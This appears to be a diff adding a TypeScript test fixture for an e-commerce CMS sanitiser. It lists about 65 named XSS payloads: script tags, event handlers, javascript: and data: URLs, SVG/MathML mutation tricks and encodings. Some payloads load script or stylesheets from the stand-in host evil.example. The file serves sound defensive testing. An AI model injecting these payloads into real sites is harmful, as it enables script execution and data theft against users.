@@ -1,0 +1,82 @@
+/**
+ * The XSS corpus every place that shows editors' HTML or a shopper's input is
+ * tested with: the sanitiser's 25 payloads (cms/sanitize.test.ts) and more,
+ * each named. Every payload, if it ran, would call alert, confirm or prompt,
+ * or load something from evil.example, which the tests watch for.
+ */
+export type Payload = readonly [name: string, payload: string]
+
+/** The sanitiser's own cases, from the usual cheat sheets. */
+export const sanitizerPayloads: readonly Payload[] = [
+  ['script tag', '<script>alert(1)</script>Spedizione gratuita'],
+  ['script with src', '<script src="https://evil.example/x.js"></script>'],
+  ['img onerror', '<img src=x onerror="alert(1)">'],
+  ['event handler on an allowed tag', '<strong onclick="alert(1)" onmouseover=alert(2)>Saldi</strong>'],
+  ['javascript: URL', '<a href="javascript:alert(1)">Offerte</a>'],
+  ['javascript: URL with entities and case', '<a href="&#106;ava&#x73;cript:alert(1)">x</a><a href="JaVaScRiPt:alert(1)">y</a>'],
+  ['javascript: URL split by a tab', '<a href="jav\tascript:alert(1)">x</a>'],
+  ['data: URL', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
+  ['vbscript: URL', '<a href="vbscript:msgbox(1)">x</a>'],
+  ['svg onload', '<svg onload="alert(1)"><circle r="5"/></svg>'],
+  ['svg with script', '<svg><script>alert(1)</script></svg>'],
+  ['style expression', '<span style="width: expression(alert(1))">x</span>'],
+  ['style url()', '<span style="background-image: url(javascript:alert(1))">x</span>'],
+  ['style tag', '<style>body{background:url("javascript:alert(1)")}</style>'],
+  ['iframe', '<iframe src="javascript:alert(1)"></iframe>'],
+  ['object and embed', '<object data="x.swf"></object><embed src="x.swf">'],
+  ['form action', '<form action="javascript:alert(1)"><button>x</button></form>'],
+  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
+  ['base href', '<base href="javascript:alert(1)//">'],
+  ['unclosed tag trick', '<img src=x onerror=alert(1)//'],
+  ['nested script split', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
+  ['comment break-out', '<!--<img src="--><img src=x onerror=alert(1)//">'],
+  ['math/mglyph mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
+  ['srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+  ['formaction on button', '<button formaction="javascript:alert(1)">x</button>'],
+]
+
+/** More: handlers that fire without a click, URL tricks, SVG and MathML, mutation XSS, encodings, break-outs. */
+export const morePayloads: readonly Payload[] = [
+  ['upper-case tag and handler', '<IMG SRC=x ONERROR=alert(1)>'],
+  ['body onload', '<body onload=alert(1)>'],
+  ['autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
+  ['details ontoggle', '<details open ontoggle=alert(1)>x</details>'],
+  ['video source onerror', '<video><source onerror=alert(1)></video>'],
+  ['audio onerror', '<audio src=x onerror=alert(1)>'],
+  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
+  ['svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'],
+  ['svg xlink:href javascript:', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'],
+  ['math xlink:href javascript:', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
+  ['svg use with a data: document', `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`],
+  ['iframe data: document', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'],
+  ['object data: base64', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'],
+  ['embed javascript:', '<embed src="javascript:alert(1)">'],
+  ['javascript: in hex entities', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'],
+  ['javascript: with a leading space', '<a href=" javascript:alert(1)">x</a>'],
+  ['javascript&colon;', '<a href="javascript&colon;alert(1)">x</a>'],
+  ['javascript: split by a newline entity', '<a href="java&NewLine;script:alert(1)">x</a>'],
+  ['data: link opening a tab', '<a href="data:text/html,<script>alert(1)</script>" target="_blank">x</a>'],
+  ['template content', '<template><img src=x onerror=alert(1)></template>'],
+  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
+  ['svg style mutation', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
+  ['form/math nesting mutation', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
+  ['srcdoc with entities', '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'],
+  ['CSS url(javascript:) on a div', `<div style="background:url('javascript:alert(1)')">x</div>`],
+  ['CSS expression in an allowed property', '<span style="color: expression(alert(1))">x</span>'],
+  ['CSS behavior and -moz-binding', '<span style="color:#000;behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml#x)">x</span>'],
+  ['stylesheet link javascript:', '<link rel="stylesheet" href="javascript:alert(1)">'],
+  ['select autofocus onfocus', '<select autofocus onfocus=alert(1)></select>'],
+  ['attribute break-out with a script', '"><script>alert(1)</script>'],
+  ['single-quote break-out with an img', `'><img src=x onerror=alert(1)>`],
+  ['bare javascript: URL', 'javascript:alert(1)'],
+  ['URL-encoded script', '%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
+  ['entity-encoded img (double decoding)', '&lt;img src=x onerror=alert(1)&gt;'],
+  ['JavaScript-escaped img', '\\u003cimg src=x onerror=alert(1)\\u003e'],
+  ['handler with entity-encoded parentheses', '<img src=x onerror=alert&#40;1&#41;>'],
+  ['template-injection braces', "{{constructor.constructor('alert(1)')()}}"],
+  ['textarea break-out', '</textarea><script>alert(1)</script>'],
+  ['title break-out', '</title><img src=x onerror=alert(1)>'],
+  ['isindex image onerror', '<isindex type=image src=1 onerror=alert(1)>'],
+]
+
+export const xssCorpus: readonly Payload[] = [...sanitizerPayloads, ...morePayloads]
